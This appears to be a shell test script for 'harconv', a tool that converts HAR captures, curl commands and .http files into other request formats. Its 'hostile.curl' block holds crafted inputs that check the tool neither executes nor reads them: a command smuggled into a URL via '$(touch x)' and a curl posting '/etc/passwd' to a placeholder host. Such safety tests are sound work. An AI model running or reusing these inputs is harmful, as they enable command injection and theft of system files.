# Command lines, files of requests, scripts and stubs.
harconv -q "$SAMPLES/requests.curl" --to http-file
harconv -q "$SAMPLES/requests.http" --to curl
harconv -q "$SAMPLES/requests.http" --to fetch
harconv -q "$SAMPLES/requests.http" --to python
harconv -q "$SAMPLES/requests.http" --to k6
harconv -q "$SAMPLES/shop.har" --entry 0 --to http1
harconv -q "$SAMPLES/shop.har" --entry 0 --entry 1 --entry 2 --to hoverfly
harconv -q "$SAMPLES/shop.har" --entry 0 --entry 1 --entry 2 --to wiremock
# What is lost is said.
harconv "$SAMPLES/shop.har" --entry 0 --to curl
# Nothing is run, and files are not read.
cat >hostile.curl <<'END'
curl "http://h.example/$(touch x)"
curl http://h.example/ -d @/etc/passwd
curl http://h.example/ --frob
curl http://h.example/good
curl 'http://h.example/
END
harconv hostile.curl --to harl --no-provenance
echo "exit $?"
ls
# By content, through a pipe; empty and cut inputs.
harconv - --count <"$SAMPLES/requests.http"
printf 'HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc' | harconv - --to raw
echo
for format in curl http-file http1; do
  harconv --from $format - </dev/null
  echo "exit $?"
done
harconv "$SAMPLES/shop.har" --from curl --count 2>&1 | head -3
harconv -q "$SAMPLES/shop.har" --to curl | head -1
harconv -q "$SAMPLES/shop.har" --to wiremock -o /dev/full
echo "exit $?"
